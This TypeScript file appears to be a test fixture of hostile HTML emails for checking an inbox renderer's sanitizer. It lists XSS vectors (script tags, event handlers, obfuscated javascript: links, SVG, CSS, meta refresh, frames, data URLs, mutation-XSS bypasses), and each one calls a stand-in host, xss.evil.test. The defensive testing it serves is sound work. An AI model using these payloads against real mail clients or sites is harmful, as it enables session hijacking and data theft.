/**
 * Hostile mails for the inbox (DESIGN §9): each tries to run script, reach a foreign host, or
 * navigate. Every script in them reports back the same ways (a message to the page, a global on
 * the top window, a request to the foreign host), so whatever runs is seen.
 */

export const FOREIGN = 'http://xss.evil.test';
export const FOREIGN_IMAGES = 'http://images.evil.test';

/** What a payload does when it runs; single quotes only, so it fits in any attribute. */
const run = (name: string) =>
  `parent.postMessage('xss:${name}','*');try{top.xss='${name}'}catch(e){};fetch('${FOREIGN}/${name}')`;

const b64 = (text: string) => Buffer.from(text).toString('base64');
/** A 1x1 transparent PNG. */
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

export type HostileMail = { name: string; html: string };

export const HOSTILE_MAILS: HostileMail[] = [
  {
    name: 'script tags',
    html:
      `<script>${run('script')}</script><SCRIPT SRC="${FOREIGN}/s.js"></SCRIPT>` +
      `<script type="module">${run('module')}</script><p>text</p>`,
  },
  {
    name: 'event handlers',
    html:
      `<body onload="${run('body-onload')}"><img src="x" onerror="${run('img-onerror')}">` +
      `<div id="hover" onmouseover="${run('mouseover')}">Hover me</div>` +
      `<details open ontoggle="${run('ontoggle')}"><summary>More</summary>x</details>` +
      `<video><source onerror="${run('source-onerror')}"></video>`,
  },
  {
    name: 'javascript links',
    html:
      `<a id="js-link" href="javascript:${run('js-link')}">Claim your reward</a> ` +
      `<a href="  JaVaScRiPt:${run('js-mixed-case')}">b</a> ` +
      `<a href="java&#x09;script:${run('js-tab')}">c</a> ` +
      `<a href="&#106;avascript:${run('js-entity')}">d</a>` +
      `<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:${run('js-area')}"></map>`,
  },
  {
    name: 'svg',
    html:
      `<svg onload="${run('svg-onload')}"><script>${run('svg-script')}</script>` +
      `<a xlink:href="javascript:${run('svg-link')}"><text y="20">svg</text></a>` +
      `<image href="${FOREIGN}/svg-image.png"/>` +
      `<animate onbegin="${run('svg-animate')}" attributeName="x" dur="1s"/></svg>` +
      `<img alt="svg-data" src="data:image/svg+xml;base64,${b64(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg-img')}"><script>${run('svg-img-script')}</script></svg>`,
      )}">`,
  },
  {
    name: 'css',
    html:
      `<style>@import url(${FOREIGN}/import.css); body{background:url(${FOREIGN}/style-bg.png)}` +
      `@font-face{font-family:evil;src:url(${FOREIGN}/font.woff)} p{font-family:evil}</style>` +
      `<div style="background:url(javascript:${run('css-url')})">a</div>` +
      `<div style="width:expression(${run('css-expression')})">b</div>` +
      `<div style="background-image:url(${FOREIGN}/inline-bg.png)">c</div>` +
      `<div style="behavior:url(${FOREIGN}/x.htc);-moz-binding:url(${FOREIGN}/x.xml#x)">d</div><p>e</p>`,
  },
  {
    name: 'meta refresh',
    html:
      `<html><head><meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh">` +
      `<meta http-equiv="refresh" content="0;url=javascript:${run('meta-js')}">` +
      `<meta http-equiv="set-cookie" content="evil=1"></head><body><p>refresh</p></body></html>`,
  },
  {
    name: 'forms',
    html:
      `<form action="${FOREIGN}/form" method="post"><input name="q" value="1">` +
      `<button id="submit" formaction="${FOREIGN}/formaction">Send</button></form>` +
      `<input type="image" src="${FOREIGN}/input.png"><isindex action="${FOREIGN}/isindex">`,
  },
  {
    name: 'frames',
    html:
      `<iframe src="${FOREIGN}/frame"></iframe>` +
      `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>` +
      `<frameset><frame src="${FOREIGN}/frame2"></frameset><p>frames</p>`,
  },
  {
    name: 'object and embed',
    html:
      `<object data="${FOREIGN}/object.swf" type="application/x-shockwave-flash"></object>` +
      `<embed src="${FOREIGN}/embed.swf"><applet code="Evil" codebase="${FOREIGN}/"></applet>`,
  },
  {
    name: 'base href',
    html: `<base href="${FOREIGN}/"><img alt="relative" src="relative.png"><a href="page.html">page</a>`,
  },
  {
    name: 'data urls',
    html:
      `<a href="data:text/html;base64,${b64(`<script>${run('data-link')}</script>`)}">d</a>` +
      `<iframe src="data:text/html,<script>${run('data-frame')}</script>"></iframe>` +
      `<object data="data:text/html;base64,${b64(`<script>${run('data-object')}</script>`)}"></object>` +
      `<img alt="data-html" src="data:text/html;base64,${b64('<b>x</b>')}">` +
      `<img alt="data-png" src="${PNG}">`,
  },
  {
    name: 'remote images',
    html:
      `<img alt="remote" src="${FOREIGN_IMAGES}/a.png">` +
      `<img alt="remote-srcset" src="${PNG}" srcset="${FOREIGN_IMAGES}/b.png 2x">` +
      `<img alt="protocol-relative" src="//images.evil.test/c.png">` +
      `<img alt="backslashes" src="/\\images.evil.test/h.png">` +
      `<table background="${FOREIGN_IMAGES}/d.png"><tr><td>cell</td></tr></table>` +
      `<video poster="${FOREIGN_IMAGES}/e.png" src="${FOREIGN_IMAGES}/v.mp4"></video>` +
      `<picture><source srcset="${FOREIGN_IMAGES}/f.png"><img alt="picture" src="${FOREIGN_IMAGES}/g.png"></picture>` +
      `<link rel="stylesheet" href="${FOREIGN}/l.css"><link rel="prefetch" href="${FOREIGN}/p">`,
  },
  {
    name: 'mutation',
    html:
      `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></p></noscript>` +
      `<svg></p><style><a id="</style><img src=1 onerror=${run('svg-style')}>"></a></style></svg>` +
      `<math><mtext><table><mglyph><style><img src=2 onerror=${run('mglyph')}></style></mglyph></table></mtext></math>`,
  },
];
